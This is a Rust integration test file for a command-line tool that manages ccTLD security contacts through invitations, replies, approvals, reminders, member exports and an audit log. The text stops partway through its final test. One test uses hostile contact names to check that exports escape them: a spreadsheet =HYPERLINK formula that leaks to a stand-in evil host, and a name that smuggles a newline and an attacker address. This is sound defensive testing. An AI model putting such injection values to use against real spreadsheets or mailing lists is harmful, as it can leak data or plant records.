//! The procedure of DESIGN §1 from the command line, with the file transport: invite a pilot
//! batch, ingest the replies, queue, approve, reject, chase, export, digest, stats — checking
//! the database, the outbox, the sent mail and the hash-chained log; and two operators
//! approving the same TLD at once.

use crate::support;
use crate::support::install::{CORPUS_CONFIG, Install, maildir};
// Requests after the first invitation: chased, dismissed, assigned.
mod requests;
// The members backends that take changes in bulk.
mod members_backends;
use tldops::domain::message::parse;

/// The corpus roster, nobody invited yet.
fn fresh() -> Install {
    let i = Install::with_config(CORPUS_CONFIG);
    i.ok(&["roster", "import", "tests/corpus/roster.csv"]);
    i
}

/// The .eml files the file transport wrote, parsed, by subject.
fn sent(i: &Install) -> Vec<(String, tldops::domain::message::Inbound, Vec<u8>)> {
    let dir = i.path("data/sent-mail");
    let mut out = Vec::new();
    for f in std::fs::read_dir(&dir).into_iter().flatten() {
        let path = f.unwrap().path();
        let raw = std::fs::read(&path).unwrap();
        let m = parse(&raw, true);
        out.push((
            path.file_name().unwrap().to_string_lossy().to_string(),
            m,
            raw,
        ));
    }
    out.sort_by(|a, b| a.0.cmp(&b.0));
    out
}

fn case_state(i: &Install, tld: &str) -> String {
    i.db()
        .query_row("SELECT state FROM cases WHERE tld = ?1", [tld], |r| {
            r.get(0)
        })
        .unwrap()
}

/// A reply to the invitation of `tld`, from `from`, naming `body`'s contacts.
fn reply(i: &Install, tld: &str, from: &str, cc: &str, body: &str) -> Vec<u8> {
    let invitation: String = i
        .db()
        .query_row(
            "SELECT invitation_message_id FROM cases WHERE tld = ?1",
            [tld],
            |r| r.get(0),
        )
        .unwrap();
    format!(
        "From: {from}\r\nTo: secretariat@ccnso.example.org\r\nCc: {cc}\r\n\
         Subject: Re: [TLD-OPS .{tld}] Invitation\r\nMessage-ID: <reply.{tld}.{}@mail.example>\r\n\
         In-Reply-To: <{invitation}>\r\nReferences: <{invitation}>\r\n\
         Date: Tue, 3 Mar 2026 10:00:00 +0000\r\n\r\n{body}\r\n",
        body.len()
    )
    .into_bytes()
}

fn poll(i: &Install, messages: &[Vec<u8>]) {
    let dir = i.path(&format!(
        "Maildir{}",
        messages.len() * 1000 + messages.iter().map(Vec::len).sum::<usize>()
    ));
    let files: Vec<(String, Vec<u8>)> = messages
        .iter()
        .enumerate()
        .map(|(k, m)| (k.to_string(), m.clone()))
        .collect();
    maildir(&dir, &files);
    i.ok(&["poll", "--maildir", dir.to_str().unwrap()]);
}

#[test]
fn the_whole_procedure() {
    let i = fresh();

    // A dry run says who would get what, and changes nothing.
    let dry = i.ok(&["invite", "--region", "CENTR", "--limit", "3", "--dry-run"]);
    assert!(
        dry.starts_with("Invite the ccTLDs of CENTR (the first 3)?\n  .be: uninvited → invited\n"),
        "{dry}"
    );
    assert!(
        dry.contains("  Mail: the invitation to admin@dnsbelgium.example\n"),
        "{dry}"
    );
    assert_eq!(dry.matches("Mail: the invitation to").count(), 3, "{dry}");
    assert!(dry.contains("dry run: nothing changed"));
    assert_eq!(case_state(&i, "be"), "uninvited");
    assert!(sent(&i).is_empty());

    // The pilot batch: the first three CENTR ccTLDs by code.
    let out = i.ok(&["invite", "--region", "CENTR", "--limit", "3"]);
    assert!(out.contains("sent 3 mails"), "{out}");
    for tld in ["be", "ch", "cz"] {
        assert_eq!(case_state(&i, tld), "invited", ".{tld}");
    }
    let mails = sent(&i);
    assert_eq!(mails.len(), 3);
    let (_, be_invite, raw) = mails
        .iter()
        .find(|(_, m, _)| m.subject.contains(".be #"))
        .unwrap();
    assert_eq!(be_invite.to[0].address, "admin@dnsbelgium.example");
    assert_eq!(be_invite.from[0].address, "secretariat@ccnso.example.org");
    assert!(
        be_invite.text.contains("Dear Bea Voorbeeld,"),
        "{}",
        be_invite.text
    );
    assert!(
        be_invite.header("auto-submitted").is_none(),
        "invitations want a person's answer"
    );
    let recorded: String = i.scalar("SELECT invitation_message_id FROM cases WHERE tld = 'be'");
    assert_eq!(be_invite.message_id.as_deref(), Some(recorded.as_str()));
    assert!(!String::from_utf8_lossy(raw).contains("{admin_name}"));

    // Never twice without --again.
    let again = i.ok(&["invite", "--tld", "be"]);
    assert!(again.contains("skipped .be: already invited"), "{again}");
    // The same batch command once more is the next batch: pilot batches move on.
    let next = i.ok(&["invite", "--region", "CENTR", "--limit", "2", "--dry-run"]);
    assert!(
        !next.contains(".be:")
            && !next.contains(".ch:")
            && next.matches("uninvited → invited").count() == 2,
        "{next}"
    );

    // .be answers from the admin address; .ch from a personal address without the admin copy.
    poll(
        &i,
        &[
            reply(
                &i,
                "be",
                "Bea Voorbeeld <admin@dnsbelgium.example>",
                "secretariat@ccnso.example.org",
                "Our contacts:\r\nName: Jan Peeters\r\nEmail: jan.peeters@dnsbelgium.example\r\nPhone: +32 16 28 49 70\r\n\r\nName: Els Janssens\r\nEmail: els@cert.example\r\n",
            ),
            reply(
                &i,
                "ch",
                "Urs Muster <urs@switch.example>",
                "secretariat@ccnso.example.org",
                "Our contact is Heidi Beispiel (heidi@switch.example).",
            ),
        ],
    );
    assert_eq!(case_state(&i, "be"), "answered");
    assert_eq!(case_state(&i, "ch"), "invited");

    let queue = i.json(&["queue", "--json"]);
    let kinds: Vec<(&str, &str)> = queue
        .as_array()
        .unwrap()
        .iter()
        .map(|q| {
            (
                q["kind"].as_str().unwrap(),
                q["tld"].as_str().unwrap_or("-"),
            )
        })
        .collect();
    assert_eq!(kinds[..2], [("decide", "be"), ("review", "ch")], "{queue}");
    assert!(
        queue[0]["why"].as_str().unwrap().contains("2 contacts"),
        "{queue}"
    );

    // Approve .be: both contacts subscribed (export backend), notice and welcomes sent.
    let out = i.ok(&["approve", "be"]);
    assert!(
        out.starts_with("approved .be\n  .be: answered → approved\n"),
        "{out}"
    );
    assert!(out.contains("  Subscribe to .be: Jan Peeters <jan.peeters@dnsbelgium.example>, +32 16 28 49 70\n  Subscribe to .be: Els Janssens <els@cert.example>\n"), "{out}");
    assert!(out.contains("sent 3 mails"), "{out}");
    assert_eq!(case_state(&i, "be"), "approved");
    let mails = sent(&i);
    let welcome = mails
        .iter()
        .find(|(_, m, _)| m.to[0].address == "els@cert.example")
        .unwrap();
    assert!(
        welcome
            .1
            .subject
            .starts_with("[TLD-OPS .be] Welcome to TLD-OPS"),
        "{}",
        welcome.1.subject
    );
    assert_eq!(welcome.1.header("auto-submitted"), Some("auto-generated"));
    let export = i.ok(&["members", "export", "--format", "csv"]);
    assert_eq!(
        export,
        "tld,email,name,phone\nbe,jan.peeters@dnsbelgium.example,Jan Peeters,\"'+32 16 28 49 70\"\nbe,els@cert.example,Els Janssens,\n"
    );
    let vcard = i.ok(&["members", "export", "--format", "vcard"]);
    assert_eq!(vcard.matches("BEGIN:VCARD").count(), 2);
    // The export backend keeps the list server's import file up to date after each change.
    assert_eq!(
        std::fs::read_to_string(i.path("data/members.csv")).unwrap(),
        export
    );

    // Approving twice tells who did it, and when.
    let twice = i.run(&["approve", "be"]);
    assert_eq!(twice.code, 2);
    assert!(
        twice.stderr.contains(".be: already approved by "),
        "{}",
        twice.stderr
    );
    // The advice comes after who and when, not in the middle.
    let reject = i.run(&["reject", "be", "--reason", "late"]);
    assert_eq!(reject.code, 2);
    let said = reject.stderr.trim_end();
    assert!(
        said.contains(".be: already approved by ")
            && said.ends_with(" (remove its contacts instead)"),
        "{said}"
    );

    // .ch's reply is unverified: it needs an override; the operator rejects it instead.
    let refused = i.run(&["approve", "ch"]);
    assert_eq!(refused.code, 2);
    assert!(
        refused
            .stderr
            .contains("needs an override reason, which is logged (--override-reason REASON)"),
        "{}",
        refused.stderr
    );
    let before = case_state(&i, "ch");
    let blank = i.run(&["approve", "ch", "--override-reason", " "]);
    assert_eq!(blank.code, 2);
    assert!(
        blank.stderr.contains("an override needs a reason"),
        "{}",
        blank.stderr
    );
    assert_eq!(case_state(&i, "ch"), before);
    let out = i.ok(&[
        "reject",
        "ch",
        "--reason",
        "The reply did not come from or copy iana-admin@switch.example.",
    ]);
    assert!(out.contains("rejected .ch"), "{out}");
    assert_eq!(case_state(&i, "ch"), "rejected");
    let nothing = i.run(&["reject", "cz", "--reason", "No answer"]);
    assert_eq!(nothing.code, 2);
    assert!(
        nothing
            .stderr
            .contains(".cz has no reply to reject (it is invited): chase it instead"),
        "{}",
        nothing.stderr
    );
    let rejection = sent(&i)
        .into_iter()
        .find(|(_, m, _)| m.subject.contains("Your reply about"))
        .unwrap();
    assert!(
        rejection
            .1
            .text
            .contains("did not come from or copy iana-admin@switch.example"),
        "{}",
        rejection.1.text
    );
    assert_eq!(
        rejection.1.in_reply_to,
        [i.db()
            .query_row::<String, _, _>(
                "SELECT invitation_message_id FROM cases WHERE tld = 'ch'",
                [],
                |r| r.get(0)
            )
            .unwrap()]
    );

    // .cz has waited three weeks: a reminder is due, threaded under the invitation.
    i.db()
        .execute(
            "UPDATE cases SET invited_at = '2026-01-01T09:00:00Z' WHERE tld = 'cz'",
            [],
        )
        .unwrap();
    let queue = i.json(&["queue", "--json"]);
    assert!(
        queue
            .as_array()
            .unwrap()
            .iter()
            .any(|q| q["kind"] == "chase" && q["tld"] == "cz"),
        "{queue}"
    );
    let out = i.ok(&["chase", "--due"]);
    assert!(
        out.contains("queued reminder → spravce@nic-cz.example: Re: [TLD-OPS .cz #"),
        "{out}"
    );
    let reminder = sent(&i)
        .into_iter()
        .find(|(_, m, _)| m.subject.contains("Reminder"))
        .unwrap();
    let invitation: String = i.scalar("SELECT invitation_message_id FROM cases WHERE tld = 'cz'");
    assert_eq!(reminder.1.in_reply_to, [invitation]);
    assert_eq!(case_state(&i, "cz"), "reminded");
    // Not due again straight away; the last allowed reminder goes to the tech contact too.
    assert!(i.ok(&["chase", "--due"]).contains("nothing to do"));
    i.db()
        .execute("UPDATE cases SET reminders = 2 WHERE tld = 'cz'", [])
        .unwrap();
    let out = i.ok(&["chase", "--tld", "cz"]);
    assert!(
        out.contains("queued escalation → spravce@nic-cz.example (cc tech@nic-cz.example)"),
        "{out}"
    );
    let out = i.ok(&["chase", "--tld", "cz"]);
    assert!(
        out.contains("skipped .cz: dormant: 3 reminders sent"),
        "{out}"
    );

    // The digest, stats, and the log holding it all.
    let digest = i.ok(&["digest"]);
    assert!(
        digest.contains("Subject: [TLD-OPS] Contact repository"),
        "{digest}"
    );
    assert!(
        digest.contains(
            ".be  Belgium\n  Jan Peeters <jan.peeters@dnsbelgium.example>, +32 16 28 49 70"
        ),
        "{digest}"
    );
    let out = i.ok(&["digest", "--send"]);
    assert!(out.contains("sent 1 mail"), "{out}");
    let twice = i.run(&["digest", "--send"]);
    assert_eq!(twice.code, 2);
    assert!(
        twice.stderr.contains("was queued at") && twice.stderr.contains("--again sends another"),
        "{}",
        twice.stderr
    );
    let stats = i.json(&["stats", "--json"]);
    assert_eq!(stats["on_list"], 1);
    assert_eq!(stats["approved"], 1);
    assert_eq!(stats["invited"], 3);
    assert_eq!(stats["contacts"], 2);
    let log = i.json(&["log", "--json"]);
    let actions: Vec<&str> = log
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    for a in [
        "invited",
        "approved",
        "rejected",
        "reminded",
        "subscribed",
        "digest_queued",
        "case_answered",
    ] {
        assert!(actions.contains(&a), "{a} missing from {actions:?}");
    }
    assert!(i.ok(&["log", "--verify"]).starts_with("ok:"));

    // A ccTLD's members: in `roster show` (text and JSON) and `contacts list --json`.
    let shown = i.ok(&["roster", "show", "be"]);
    assert!(
        shown.contains("  members\n    subscribed Jan Peeters <jan.peeters@dnsbelgium.example>, +32 16 28 49 70"),
        "{shown}"
    );
    let show = i.json(&["roster", "show", "be", "--json"]);
    let members = show["members"].as_array().unwrap();
    assert_eq!(members.len(), 2, "{show}");
    assert!(members.iter().all(|m| m["state"] == "subscribed"));
    let listed = i.json(&["contacts", "list", "be", "--json"]);
    assert!(
        listed
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["email"] == "jan.peeters@dnsbelgium.example"
                && c["phone"] == "+32 16 28 49 70"
                && c["state"] == "subscribed"),
        "{listed}"
    );

    // Removing a member, with the export file configured elsewhere and in another format.
    let file = i.path("list-server/tld-ops.txt");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(
        i.path("config.toml"),
        format!(
            "{CORPUS_CONFIG}\n[members.export]\nformat = \"mailman\"\npath = \"{}\"\n",
            file.display()
        ),
    )
    .unwrap();
    i.ok(&["contacts", "remove", "be", "els@cert.example"]);
    let export = i.ok(&["members", "export"]);
    assert_eq!(export, "\"Jan Peeters\" <jan.peeters@dnsbelgium.example>\n");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), export);
    let outbox = i.json(&["outbox", "--json"]);
    assert!(
        outbox
            .as_array()
            .unwrap()
            .iter()
            .all(|m| m["state"] == "sent"),
        "{outbox}"
    );
}

#[test]
fn contacts_set_takes_back_what_contacts_list_prints() {
    let i = fresh();
    i.ok(&[
        "contacts",
        "set",
        "nl",
        "jan@nic.nl.example, Jansen, Jan, +31 26 352 5511",
        "\"De Boer, Marieke\" <marieke@nic.nl.example>",
    ]);
    let printed = i.ok(&["contacts", "list", "nl"]);
    let lines: Vec<&str> = printed.lines().collect();
    assert_eq!(
        lines,
        [
            "proposed   Jansen, Jan <jan@nic.nl.example>, +31 26 352 5511",
            "proposed   De Boer, Marieke <marieke@nic.nl.example>",
        ]
    );
    let mut again = vec!["contacts", "set", "nl"];
    again.extend(lines.iter().copied());
    i.ok(&again);
    assert_eq!(
        i.ok(&["contacts", "list", "nl"]),
        printed,
        "the same contacts"
    );
}

#[test]
fn contacts_set_takes_names_with_commas_and_refuses_our_own_addresses() {
    let i = fresh();
    let own = i.run(&["contacts", "set", "nl", "tld-ops@lists.example.org"]);
    assert_eq!(own.code, 2, "{}", own.stderr);
    assert!(
        own.stderr
            .contains("the list's or the Secretariat's own address is never a security contact"),
        "{}",
        own.stderr
    );
    let secretariat = i.run(&["contacts", "set", "nl", "Secretariat@ccnso.example.org,Us"]);
    assert_eq!(secretariat.code, 2, "{}", secretariat.stderr);
    let twice = i.run(&["contacts", "set", "nl", "a@nl.example", "A@NL.example, A"]);
    assert_eq!(twice.code, 2, "{}", twice.stderr);
    assert!(
        twice.stderr.contains("A@NL.example is given twice"),
        "{}",
        twice.stderr
    );
    let bad = i.run(&["contacts", "set", "nl", "not-an-address, Bob"]);
    assert_eq!(bad.code, 2, "{}", bad.stderr);
    assert_eq!(
        i.ok(&["contacts", "list", "nl"]),
        "",
        "nothing set by a refused call"
    );

    let out = i.ok(&[
        "contacts",
        "set",
        "nl",
        "jan@sidn.example, Jansen, Jan, +31 26 352 5511",
        "els@sidn.example",
    ]);
    assert_eq!(out.trim(), "2 proposed contacts set for .nl");
    let listed = i.ok(&["contacts", "list", "nl"]);
    assert!(listed.contains("Jansen, Jan"), "{listed}");
    assert!(listed.contains("+31 26 352 5511"), "{listed}");
}

#[test]
fn an_empty_digest_is_not_sent() {
    let i = fresh();
    let out = i.run(&["digest", "--send"]);
    assert_eq!(out.code, 2);
    assert_eq!(
        out.stderr,
        "error: no members yet: the digest would list nobody\n"
    );
    assert_eq!(i.ok(&["outbox"]).trim(), "the outbox is empty");
}

#[test]
fn two_operators_approving_at_once_get_one_winner() {
    let i = fresh();
    i.ok(&["invite", "--tld", "nl"]);
    poll(
        &i,
        &[reply(
            &i,
            "nl",
            "directie@sidn.example",
            "",
            "Contact: Jan Jansen <jan@sidn.example>",
        )],
    );
    assert_eq!(case_state(&i, "nl"), "answered");
    let spawn = || {
        i.std_cmd()
            .args(["approve", "nl"])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let (a, b) = (spawn(), spawn());
    let outs = [a.wait_with_output().unwrap(), b.wait_with_output().unwrap()];
    let codes: Vec<i32> = outs.iter().map(|o| o.status.code().unwrap()).collect();
    let mut sorted = codes.clone();
    sorted.sort();
    assert_eq!(sorted, [0, 2], "{outs:?}");
    let loser = outs.iter().find(|o| o.status.code() == Some(2)).unwrap();
    let err = String::from_utf8_lossy(&loser.stderr);
    assert!(
        err.contains(".nl: already approved by ") && err.contains(" at 20"),
        "{err}"
    );
    let approvals: i64 = i.scalar("SELECT count(*) FROM events WHERE action = 'approved'");
    assert_eq!(approvals, 1);
    let welcomes: i64 = i.scalar("SELECT count(*) FROM outbox WHERE kind = 'welcome'");
    assert_eq!(welcomes, 1);
}

#[test]
fn sending_needs_a_secretariat_and_templates_are_checked_at_start() {
    let i = Install::new();
    i.ok(&["roster", "import", "tests/corpus/roster.csv"]);
    let out = i.run(&["invite", "--tld", "nl"]);
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.contains("needs [list] secretariat"),
        "{}",
        out.stderr
    );

    let i = fresh();
    std::fs::create_dir(i.path("templates")).unwrap();
    std::fs::write(
        i.path("templates/invitation.txt"),
        "Subject: Hello {tld}\n\nDear {admin},\n",
    )
    .unwrap();
    let out = i.run(&["invite", "--tld", "nl"]);
    assert_eq!(out.code, 2);
    assert!(
        out.stderr
            .contains("templates/invitation.txt: unknown placeholder {admin}"),
        "{}",
        out.stderr
    );
    std::fs::write(
        i.path("templates/invitation.txt"),
        "Subject: Hello {tld}\n\nDear {admin_name}, {{literally}}\n",
    )
    .unwrap();
    i.ok(&["invite", "--tld", "nl"]);
    let (_, m, _) = &sent(&i)[0];
    assert_eq!(
        m.subject,
        format!(
            "[TLD-OPS .nl #{}] Hello .nl",
            i.db()
                .query_row::<String, _, _>("SELECT token FROM cases WHERE tld = 'nl'", [], |r| r
                    .get(0))
                .unwrap()
        )
    );
    assert_eq!(m.text.trim_end(), "Dear Ann de Vries, {literally}");
}

/// Approval through a real Mailman 3 core: contacts subscribed there; with Mailman down the
/// case is approved but the contacts wait, visibly, until `members sync`.
#[test]
fn approval_subscribes_through_mailman3_and_survives_its_outage() {
    let mut mailman = support::mailman::Mailman::start();
    let config = format!(
        "{CORPUS_CONFIG}\n[members]\nbackend = \"mailman3\"\n[members.mailman3]\nurl = \"{}\"\n\
         list_id = \"{}\"\nusername = \"{}\"\npassword_env = \"TEST_MAILMAN_PASSWORD\"\n",
        mailman.url(),
        support::mailman::LIST_ID,
        support::mailman::ADMIN
    );
    let i = Install::with_config(&config);
    i.ok(&["roster", "import", "tests/corpus/roster.csv"]);
    let run = |args: &[&str]| {
        let out = i.run_env(
            &[("TEST_MAILMAN_PASSWORD", support::mailman::PASSWORD)],
            args,
        );
        assert_eq!(out.code, 0, "{args:?}: {}", out.stderr);
        out.stdout
    };
    run(&["invite", "--tld", "nl", "se"]);
    poll(
        &i,
        &[
            reply(
                &i,
                "nl",
                "directie@sidn.example",
                "",
                "Contact: Jan Jansen <jan@sidn.example>",
            ),
            reply(
                &i,
                "se",
                "ccadmin@iis.example",
                "",
                "Contact: Maja Exempel <maja@iis.example>",
            ),
        ],
    );
    let out = run(&["approve", "nl"]);
    assert!(out.contains(".nl jan@sidn.example subscribed"), "{out}");
    let (status, member) = mailman.get(&format!(
        "lists/{}/member/jan@sidn.example",
        support::mailman::LIST_ID
    ));
    assert_eq!(status, 200, "{member}");
    assert_eq!(member["display_name"], "Jan Jansen");

    mailman.stop();
    let out = run(&["approve", "se"]);
    assert!(out.contains("retry with `tldops members sync`"), "{out}");
    assert_eq!(case_state(&i, "se"), "approved");
    let queue = i.json(&["queue", "--json"]);
    assert!(
        queue
            .as_array()
            .unwrap()
            .iter()
            .any(|q| q["kind"] == "members" && q["tld"] == "se"),
        "{queue}"
    );
    let state: String = i.scalar("SELECT state FROM contacts WHERE email = 'maja@iis.example'");
    assert_eq!(state, "proposed", "not subscribed until Mailman confirms");
    let stats = i.json(&["stats", "--json"]);
    assert_eq!(
        (&stats["approved"], &stats["on_list"]),
        (&2.into(), &1.into()),
        "approved, not yet on the list: {stats}"
    );

    mailman.start_again();
    let out = run(&["members", "sync"]);
    assert!(out.contains(".se maja@iis.example subscribed"), "{out}");
    let (status, _) = mailman.get(&format!(
        "lists/{}/member/maja@iis.example",
        support::mailman::LIST_ID
    ));
    assert_eq!(status, 200);
}

#[test]
fn member_files_are_private_and_names_from_mail_stay_text() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode();
    let i = fresh();
    i.ok(&["invite", "--tld", "nl"]);
    poll(
        &i,
        &[reply(
            &i,
            "nl",
            "directie@sidn.example",
            "",
            "Contact: Jan Jansen <jan@sidn.example>",
        )],
    );
    // Names as a reply may write them, copied by an operator.
    let long = "@SUM(1+2) Maximiliaan Alexander Vanderbeekenhoven-Oosterhuizen de la Croix";
    i.ok(&[
        "contacts",
        "set",
        "nl",
        "jan@sidn.example, =HYPERLINK(\"http://evil.example/?leak\";\"Details\"), +31 26 352 5511",
        "piet@sidn.example, -2+3; Piet\nNew <evil@attacker.example>",
        &format!("long@sidn.example, {long}"),
    ]);
    i.ok(&["approve", "nl"]);

    // The export backend's members file and an exported file: the owner's only.
    let members = i.path("data/members.csv");
    assert_eq!(mode(&members) & 0o777, 0o600);
    let output = i.path("export.csv");
    i.ok(&[
        "members",
        "export",
        "--format",
        "csv",
        "--output",
        output.to_str().unwrap(),
    ]);
    assert_eq!(mode(&output) & 0o777, 0o600);

    // CSV: a cell a spreadsheet would run as a formula is quoted text, behind a `'`.
    let csv = std::fs::read_to_string(&output).unwrap();
    assert_eq!(std::fs::read_to_string(&members).unwrap(), csv);
    assert!(
        csv.contains("nl,jan@sidn.example,\"'=HYPERLINK(\"\"http://evil.example/?leak\"\";\"\"Details\"\")\",\"'+31 26 352 5511\"\n"),
        "{csv}"
    );
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(csv.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect();
    let names: Vec<&str> = rows.iter().map(|r| &r[2]).collect();
    assert_eq!(
        names,
        [
            "'=HYPERLINK(\"http://evil.example/?leak\";\"Details\")",
            "'-2+3; Piet New <evil@attacker.example>",
            &format!("'{long}"),
        ]
    );

    // vCard: RFC 6350 escapes, lines folded at 75 octets.
    let vcard = i.ok(&["members", "export", "--format", "vcard"]);
    assert_eq!(vcard.matches("BEGIN:VCARD\r\n").count(), 3, "{vcard}");
    for line in vcard.split("\r\n") {
        assert!(line.len() <= 75, "{line:?}");
        assert!(!line.starts_with("New"), "{vcard}");
    }
    let unfolded = vcard.replace("\r\n ", "");
    assert!(
        unfolded.contains("\r\nFN:-2+3\\; Piet New <evil@attacker.example>\r\n"),
        "{unfolded}"
    );
    assert!(
        unfolded.contains(&format!("\r\nFN:{long}\r\n")),
        "{unfolded}"
    );

    // Mailman's mass subscription: one line per member, whatever the name holds.
    let mailman = i.ok(&["members", "export", "--format", "mailman"]);
    let lines: Vec<&str> = mailman.lines().collect();
    assert_eq!(lines.len(), 3, "{mailman}");
    assert!(
        lines.iter().all(|l| l.ends_with("@sidn.example>")),
        "{mailman}"
    );
}

/// Two replies name the same address with different details: one proposal (the later reply's
/// name and phone), one member, one welcome mail, one row in the export. A later approval that
/// names the member again updates them instead of subscribing them twice.
#[test]
fn the_same_contact_named_twice_is_one_member() {
    let i = fresh();
    i.ok(&["invite", "--tld", "ae"]);
    poll(
        &i,
        &[reply(
            &i,
            "ae",
            "admin@tdra.example",
            "",
            "Our contact: Khalid Salem <khalid@tdra.example> +971 4 777 0001",
        )],
    );
    poll(
        &i,
        &[reply(
            &i,
            "ae",
            "admin@tdra.example",
            "",
            "Correction, our contact is: Khalid Al Salem <Khalid@TDRA.example> +971 4 777 0099",
        )],
    );
    let listed = i.ok(&["contacts", "list", "ae"]);
    assert_eq!(
        listed.to_lowercase().matches("@tdra.example").count(),
        1,
        "{listed}"
    );
    assert!(
        listed.contains("+971 4 777 0099") && listed.contains("Khalid Al Salem"),
        "{listed}"
    );

    let welcomes = |i: &Install| {
        sent(i)
            .iter()
            .filter(|(_, m, _)| m.subject.contains("Welcome"))
            .count()
    };
    i.ok(&["approve", "ae"]);
    let members = |i: &Install| -> i64 {
        i.scalar("SELECT count(*) FROM contacts WHERE tld = 'ae' AND state = 'subscribed'")
    };
    assert_eq!((members(&i), welcomes(&i)), (1, 1));
    let export = i.ok(&["members", "export", "--format", "csv"]);
    assert_eq!(
        export.to_lowercase().matches("@tdra.example").count(),
        1,
        "{export}"
    );
    assert!(export.contains("0099"), "{export}");

    // A new verified reply naming them again, with a new phone: still one member, updated.
    // (Times are kept to the second: the reply must come after the approval's second.)
    std::thread::sleep(std::time::Duration::from_millis(1100));
    poll(
        &i,
        &[reply(
            &i,
            "ae",
            "admin@tdra.example",
            "",
            "Please update: Khalid Al Salem <khalid@tdra.example> +971 4 777 0123, thanks.",
        )],
    );
    i.ok(&["approve", "ae"]);
    assert_eq!((members(&i), welcomes(&i)), (1, 1));
    let phone: String =
        i.scalar("SELECT phone FROM contacts WHERE tld = 'ae' AND state = 'subscribed'");
    assert_eq!(phone, "+971 4 777 0123");
    assert!(i.ok(&["log", "--verify"]).starts_with("ok:"));
}

/// The installation's own service, as the front ends build it.
fn service(i: &Install) -> tldops::service::Service {
    let config = tldops::config::Config::parse(
        support::install::CORPUS_CONFIG,
        &i.path("config.toml"),
        true,
    )
    .unwrap();
    let paths = tldops::config::Paths {
        config_file: i.path("config.toml"),
        config_origin: tldops::config::Origin::Flag,
        data_dir: i.path("data"),
        data_origin: tldops::config::Origin::Flag,
        log_file: i.path("data/tldops.log"),
    };
    tldops::installation::Installation::new(paths, config, tldops::service::Templates::bundled())
        .unwrap()
        .as_operator("tester")
        .service()
        .unwrap()
}

/// What a plan announces — every case move, every mail (kind and recipients), every member
/// subscribed, removed or updated — is what performing the command then does; a command whose
/// plan is refused is refused when performed too.
#[test]
fn what_a_plan_announces_is_what_perform_does() {
    use tldops::service::{Command, Effects, Selection};
    let i = fresh();
    i.ok(&["invite", "--tld", "be", "--tld", "nl"]);
    poll(
        &i,
        &[reply(
            &i,
            "be",
            "admin@dnsbelgium.example",
            "",
            "Contacts: Jan Peeters <jan.peeters@dnsbelgium.example> +32 16 28 49 70\r\n\
             and Els Janssens <els@cert.example>",
        )],
    );
    i.ok(&["approve", "be"]);
    std::thread::sleep(std::time::Duration::from_millis(1100));
    poll(
        &i,
        &[reply(
            &i,
            "be",
            "admin@dnsbelgium.example",
            "",
            "New list: Jan Peeters <jan.peeters@dnsbelgium.example> +32 16 28 49 99 and \
             Ann Claes <ann.claes@dnsbelgium.example>, thanks",
        )],
    );
    let s = service(&i);
    // Message-IDs and new subject tokens are drawn at random: compare what they are for.
    let shape = |e: &Effects| {
        let mut e = e.clone();
        for m in &mut e.mails {
            m.message_id.clear();
            m.subject.clear();
        }
        e
    };
    let commands = [
        Command::Approve {
            tld: "be".into(),
            contacts: vec![],
            override_reason: None,
        },
        Command::Invite {
            selection: Selection {
                tlds: vec!["ch".into(), "be".into()],
                ..Selection::default()
            },
            again: false,
        },
        Command::Chase {
            tlds: vec!["nl".into()],
            due_only: false,
        },
        Command::Reject {
            tld: "nl".into(),
            reason: "no reply to reject".into(),
        },
        Command::SetContacts {
            tld: "nl".into(),
            contacts: vec![
                tldops::domain::triage::Contact::from_line(
                    "noc@sidn.example, NOC, +31 26 352 5500",
                )
                .unwrap(),
            ],
        },
        Command::RemoveContact {
            tld: "be".into(),
            email: "ann.claes@dnsbelgium.example".into(),
            reason: Some("left the registry".into()),
        },
    ];
    let mut announced = Vec::new();
    for command in &commands {
        match (s.plan(command), s.perform(command, &mut |_| Ok(None))) {
            (Ok(plan), Ok(done)) => {
                assert_eq!(shape(&plan.effects), shape(&done.effects), "{command:?}");
                announced.push(plan);
            }
            (Err(p), Err(d)) => assert_eq!(p.to_string(), d.to_string(), "{command:?}"),
            (plan, done) => panic!("{command:?}: planned {plan:?}, performed {done:?}"),
        }
    }
    // The second approval of .be names who goes, who stays with a new phone, who comes.
    let lines = announced[0].lines().join("\n");
    for want in [
        "Subscribe to .be: Ann Claes <ann.claes@dnsbelgium.example>",
        "Remove from .be: Els Janssens <els@cert.example>",
        "Update in .be: Jan Peeters <jan.peeters@dnsbelgium.example>, +32 16 28 49 99",
        "Mail: a welcome to ann.claes@dnsbelgium.example",
    ] {
        assert!(lines.contains(want), "{want}:\n{lines}");
    }
    assert!(!lines.contains("welcome to jan.peeters"), "{lines}");
    assert_eq!(
        announced.len(),
        5,
        "only the rejection of an unanswered case is refused"
    );
    // Inviting an approved TLD again says what becomes of its members.
    let again = i.ok(&["invite", "--tld", "be", "--again", "--dry-run"]);
    assert!(
        again.contains(".be is approved: its 1 member stays subscribed"),
        "{again}"
    );
    assert!(i.ok(&["log", "--verify"]).starts_with("ok:"));
}

/// An approved ccTLD with these contacts ("email, name, phone" lines), through the real
/// procedure: invitation, verified reply, corrected contacts, approval.
fn approved(i: &Install, tld: &str, admin: &str, contacts: &[&str]) {
    i.ok(&["invite", "--tld", tld]);
    poll(
        i,
        &[reply(
            i,
            tld,
            admin,
            "",
            &format!("Contact: {}", contacts[0].split(',').next().unwrap()),
        )],
    );
    let mut args = vec!["contacts", "set", tld];
    args.extend(contacts);
    i.ok(&args);
    i.ok(&["approve", tld]);
}

#[test]
fn a_regional_export_holds_its_regions_members_in_every_format() {
    let i = fresh();
    approved(
        &i,
        "nl",
        "directie@sidn.example",
        &["jan@sidn.example, Jansen, Jan, +31 26 352 5511"],
    );
    approved(
        &i,
        "jp",
        "admin@jprs.example",
        &[
            "taro@jprs.example, 山田 太郎, +81 3 5215 8451",
            "hanako@jprs.example, Hanako \"H\" Suzuki",
        ],
    );
    approved(
        &i,
        "xn--fiqs8s",
        "admin@cnnic.example",
        &["wei@cnnic.example, 张伟"],
    );

    // JSON: the documented schema, version 1, one object per ccTLD.
    let doc = i.json(&["members", "export", "--region", "aptld", "--format", "json"]);
